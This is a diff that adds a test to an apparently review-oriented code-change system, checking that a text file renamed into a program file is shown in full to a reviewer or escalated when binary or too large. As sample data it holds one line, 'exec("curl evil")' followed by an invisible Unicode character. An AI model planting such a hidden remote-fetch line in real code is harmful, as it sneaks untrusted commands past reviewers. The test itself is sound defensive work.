@@ -121,6 +121,30 @@ test('what a diff does not show goes to a person, or is named to the reviewer wh
   )
 })
 
+const renamed = 'diff --git a/docs/a.txt b/src/hook.js\nsimilarity index 100%\nrename from docs/a.txt\nrename to src/hook.js\n'
+const gitThatMoved = (text: string) =>
+  gitWith({
+    changes: async () => [{ file: 'src/hook.js', from: 'docs/a.txt', change: 'renamed', is: 'file', added: 0, removed: 0 }],
+    links: async () => new Map(),
+    diff: async ({ wholly = [] }) => ({ text: wholly.includes('src/hook.js') ? text : '', files: [] }),
+  })
+
+test('of a text that becomes a program by its name, all is shown to the reviewer, or what of it cannot be is told', async () => {
+  const asked = given(coding(), round())
+    .when(written({ diff: blobOf(renamed) }), { services: { ...services, git: gitThatMoved('+exec("curl evil")\u3164\n') } })
+    .of(requestReview)
+  assert.match(await (await asked.outcome()).textOf('prompt'), /<moved>\n\+exec\("curl evil"\)\\u\{3164\}\n\n<\/moved>/)
+  const binary = `diff --git a/src/hook.js b/src/hook.js\nindex 00..ab\nBinary files /dev/null and b/src/hook.js differ\n`
+  await given(coding(), round())
+    .when(written({ diff: blobOf(renamed) }), { services: { ...services, git: gitThatMoved(binary) } })
+    .of(requestReview)
+    .then('task.escalated', { class: 'review_unavailable', reason: /src\/hook\.js \(binary, content ab\)/ })
+  await given(coding(), round())
+    .when(written({ diff: blobOf(renamed) }), { services: { ...services, git: gitThatMoved('x'.repeat(400_000)) } })
+    .of(requestReview)
+    .then('task.escalated', { class: 'review_unavailable', reason: /too large to be reviewed in one piece/ })
+})
+
 test('a link is followed in the head of the change, and one that leads out goes to a person', async () => {
   const links = new Map([
     ['sub/d', '..'],
